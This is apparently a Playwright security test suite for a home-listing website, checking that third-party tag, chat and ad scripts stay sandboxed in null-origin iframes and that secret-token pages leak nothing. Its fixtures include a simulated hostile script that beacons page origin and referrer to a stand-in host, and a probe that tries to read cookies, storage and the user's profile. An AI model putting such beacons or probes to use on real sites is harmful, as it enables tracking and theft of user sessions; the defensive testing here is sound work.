import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { invitationUrl, loginUrl, passwordUrl, verifyUrl } from '#model/account/urls.ts'
import { alertUrl } from '#model/alert/urls.ts'
import { appointmentUrl } from '#model/appointment/urls.ts'
import { localized } from '#model/language.ts'
import { addFactsUrl, relayOffUrl } from '#model/lead/urls.ts'
import { confirmHomeUrl } from '#model/listing/urls.ts'
import { deleteMyDataUrl } from '#model/page-urls.ts'
import { reportReplyUrl } from '#model/problem/urls.ts'
import { sharedListUrl } from '#model/shared-list/urls.ts'
import { freePort } from '#test/cluster/programs.ts'
import { launchSite } from '../world/site.ts'
import { expect, test } from './fixtures.ts'
import { copySampleData } from './sample-data.ts'
import { startApplication } from './start-application.ts'

// One site for all of them.
test.describe.configure({ mode: 'default' })

let folder: string
let site: ReturnType<typeof launchSite>
let address: string

test.beforeAll(async () => {
  test.setTimeout(300_000)
  folder = await mkdtemp(join(tmpdir(), 'havenrow-others-'))
  await copySampleData(folder)
  site = launchSite({
    DATA_DIR: folder,
    // Frames are allowed only on pages of SITE_URL, so it must be known.
    PORT: String(await freePort()),
    TAG_MANAGER_ID: 'GTM-ABC1234',
    CHAT_SCRIPT_URL: 'https://others.example/chat.js',
    AD_NETWORK_URL: 'https://others.example/ads.js',
  })
  address = await site.listening
})
test.afterAll(async () => {
  await site.stop()
  await rm(folder, { recursive: true, force: true })
})

const names = ['tags', 'chat', 'ads'] as const

/** Answers every script of others with one that tells where it runs; returns what it tells. */
async function hostile(page: Page, more = ''): Promise<URLSearchParams[]> {
  const told: URLSearchParams[] = []
  const script = `
    new Image().src = 'https://others.example/told?' + new URLSearchParams({
      origin: self.origin, isTop: String(self === top), path: location.pathname, referrer: document.referrer })
    ${more}`
  await page.context().route(/^https:\/\/(others\.example|www\.googletagmanager\.com)\//, route => {
    const url = new URL(route.request().url())
    if (url.pathname !== '/told') return route.fulfill({ contentType: 'text/javascript', body: script })
    told.push(url.searchParams)
    return route.fulfill({ status: 204 })
  })
  return told
}

async function signIn(page: Page): Promise<void> {
  const data = {
    username: `others-${Date.now()}@mail.example`,
    password: 'a long enough password',
    firstName: 'Bea',
    lastName: 'Secretive',
    accountType: 'FSBO',
    emailConsent: false,
  }
  // A server that has just started may be busy.
  await expect
    .poll(async () =>
      (await page.request.post(`${address}/api/v1/registered-users/register.json`, { data })).status(),
    )
    .toBe(201)
}

/** What a document can read of the profile of the person who is signed in. */
const readProfile = (page: Page) =>
  page.evaluate(async () => {
    const tries: Record<string, () => unknown> = {
      cookies: () => document.cookie,
      storage: () => localStorage.length,
      fetched: async () => (await fetch('/account/profile')).text(),
      opened: async () => {
        const opened = window.open('/account/profile')
        if (!opened) throw new Error('not opened')
        await new Promise(resolve => setTimeout(resolve, 2_000))
        return opened.document.documentElement.outerHTML
      },
    }
    const read: string[] = []
    for (const [name, attempt] of Object.entries(tries))
      try {
        read.push(`${name}: ${String(await attempt())}`)
      } catch {
        // As it should be.
      }
    return { origin: self.origin, read }
  })

test.describe('a frame with code of others', () => {
  test('does not exist outside an iframe, and has no origin even there', async ({ context }) => {
    const page = await context.newPage()
    const told = await hostile(page)
    await signIn(page)
    for (const name of names)
      await test.step(name, async () => {
        told.length = 0
        expect((await page.goto(`${address}/frames/${name}`))!.status()).toBe(404)
        expect(told).toEqual([])

        // A browser that names the wrong kind of request, and knows no other header that would stop it.
        await page.route(`**/frames/${name}`, async route => {
          const answer = await route.fetch({
            headers: { ...route.request().headers(), 'sec-fetch-dest': 'iframe' },
          })
          const { 'cross-origin-opener-policy': _, ...headers } = answer.headers()
          await route.fulfill({ response: answer, headers })
        })
        expect((await page.goto(`${address}/frames/${name}`))!.status()).toBe(200)
        await expect.poll(() => told.map(one => one.get('origin'))).toEqual(['null'])
        expect(await readProfile(page)).toEqual({ origin: 'null', read: [] })
      })
  })

  test('cannot leave its sandbox by a window that a click opens', async ({ context }) => {
    const page = await context.newPage()
    const told = await hostile(
      page,
      `document.documentElement.insertAdjacentHTML('beforeend', '<button>Great homes</button>')
       document.querySelector('button').onclick = () => { open('/frames/ads'); open('/frames/tags') }`,
    )
    await signIn(page)
    // Without ads of its own the site shows the network's.
    await page.route(/ppc-ads\.json/, route =>
      route.fulfill({ json: { payload: [], meta: { position: 0, countyCode: null } } }),
    )
    await page.goto(`${address}/homes/fl`)
    await startApplication(page)
    await page.locator('[data-slot="results-end"]').scrollIntoViewIfNeeded()
    const frame = page.locator('iframe[src^="/frames/ads"]')
    await expect(frame).toHaveAttribute('referrerpolicy', 'no-referrer')
    const windows: Page[] = []
    context.on('page', opened => windows.push(opened))
    await frame.contentFrame().getByRole('button', { name: 'Great homes' }).click()
    await expect.poll(() => windows.length).toBe(2)
    for (const opened of windows) await opened.waitForLoadState()
    expect(told.length).toBeGreaterThan(0)
    expect(told.filter(one => one.get('origin') !== 'null' || one.get('isTop') !== 'false')).toEqual([])
  })
})

test.describe('a page that a secret link opens', () => {
  const secret = 'abcdefghij234567'
  const long = `5-${secret}${secret}`
  /** The link and what the address bar shows of it. */
  const pages = [
    [passwordUrl(secret), passwordUrl()],
    [verifyUrl(secret), verifyUrl()],
    [invitationUrl(secret), invitationUrl()],
    [loginUrl(invitationUrl(secret)), loginUrl()],
    [confirmHomeUrl(long), confirmHomeUrl()],
    [addFactsUrl(long), addFactsUrl()],
    [relayOffUrl(secret), relayOffUrl()],
    [deleteMyDataUrl(secret), deleteMyDataUrl()],
    [reportReplyUrl(long), reportReplyUrl()],
    // Their paths are the secret, without which there is no page.
    [appointmentUrl(secret), appointmentUrl(secret)],
    [sharedListUrl(long), sharedListUrl(long)],
    [alertUrl(long), alertUrl(long)],
  ] as const

  for (const [language, others] of [
    ['en', pages.slice(0, 7)],
    ['es', pages.slice(7)],
  ] as const)
    test(`has no frame, tells no other page its address and hides the secret, in ${language}`, async ({
      context,
    }) => {
      const page = await context.newPage()
      const told = await hostile(page)
      for (const [link, shown] of others) {
        const answer = await page.goto(address + localized(link, language))
        expect([link, answer!.headers()]).toMatchObject([
          link,
          {
            'referrer-policy': 'no-referrer',
            'x-robots-tag': 'noindex',
            'cache-control': 'no-store',
          },
        ])
        // The application starts by itself.
        if (answer!.status() !== 404) await page.waitForSelector('html[data-ready]')
        else await startApplication(page)
        await expect(page).toHaveURL(address + localized(shown, language))
        await expect(page.locator('iframe, [aria-label^=Chat]')).toHaveCount(0)
      }
      expect(told).toEqual([])
      // The next page tells of itself alone.
      await page.goto(address + localized(relayOffUrl(secret), language))
      await page.waitForSelector('html[data-ready]')
      await page.locator('footer a[href$="/sitemap"]').first().click()
      await expect.poll(() => told.map(one => one.get('referrer'))).toEqual([''])
      await expect(page.locator('[aria-label^=Chat]')).toHaveCount(1)
    })

  test('is the same after going back, a reload and a link to a part of it', async ({ context }) => {
    const page = await context.newPage()
    await hostile(page)
    const shown = address + relayOffUrl()
    const isThere = async () => {
      await expect(page.locator(`input[name=token][value="${secret}"]`)).toBeAttached()
      await expect(page).toHaveURL(shown)
    }
    await page.goto(`${address}/sitemap`)
    await startApplication(page)
    await expect(page.locator('iframe')).toHaveCount(1)
    // From a page of the site it is opened as a document, with headers of its own.
    await page.evaluate(link => {
      document.querySelector('main')!.insertAdjacentHTML('afterbegin', `<a href="${link}">Stop</a>`)
    }, relayOffUrl(secret))
    await page.getByRole('link', { name: 'Stop', exact: true }).click()
    await page.waitForSelector('html[data-ready]')
    await isThere()
    await expect(page.locator('iframe')).toHaveCount(0)

    await page.locator('footer a[href$="/about-us"]').first().click()
    await expect(page).toHaveURL(/about-us/)
    await expect(page.locator('iframe')).toHaveCount(1)
    await page.goBack()
    await isThere()
    await expect(page.locator('iframe')).toHaveCount(0)
    await page.reload()
    await isThere()
    await page.evaluate(() => Object.assign(window, { isSame: true }))
    await page.locator('a[href="#content"]').focus()
    await page.keyboard.press('Enter')
    await expect(page.locator('#content')).toBeFocused()
    await expect(page).toHaveURL(`${shown}#content`)
    await expect(page.locator(`input[name=token][value="${secret}"]`)).toBeAttached()
    expect(await page.evaluate(() => 'isSame' in window)).toBe(true)
    // From another document.
    await page.goto(`${address}/terms`)
    await page.goBack()
    await expect(page.locator(`input[name=token][value="${secret}"]`)).toBeAttached()
    await page.waitForSelector('html[data-ready]')
    await expect(page).toHaveURL(`${shown}#content`)
    // The language link goes on with the link.
    await page.locator('header a[hreflang=es]').first().click()
    await expect(page).toHaveURL(address + localized(relayOffUrl(), 'es'))
    await expect(page.locator(`input[name=token][value="${secret}"]`)).toBeAttached()
  })
})
